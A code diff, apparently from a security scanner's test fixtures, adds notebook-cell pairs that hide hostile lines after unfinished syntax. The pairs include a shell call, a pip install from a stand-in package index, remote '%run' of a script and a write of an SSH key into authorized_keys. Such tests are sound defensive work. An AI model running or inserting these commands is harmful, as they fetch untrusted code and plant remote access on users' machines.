@@ -59,6 +59,11 @@ PAIRS: dict[str, tuple[tuple[str, str, str], ...]] = {
         ("a.ipynb", _notebook("%run https://x.invalid/a.py"), _notebook("%run train.py")),
         ("a.ipynb", _notebook("%%writefile ~/.ssh/authorized_keys\nssh-rsa AAAA a"), _notebook("%%writefile a.txt\nhello")),
     ),
+    "cell that is not finished": (
+        ("a.ipynb", _notebook("x =\nimport os\nos.system('wall a')"), _notebook("x =\nimport os\nos.getcwd()")),
+        ("a.ipynb", _notebook(f"def f(:\n  {PIPE}"), _notebook("def f(:\n  pass")),
+        ("a.ipynb", _notebook("pip install -i http://x.invalid.net/s torch"), _notebook("pip install torch")),
+    ),
     "words that are taken apart": (
         (
             "a.service",
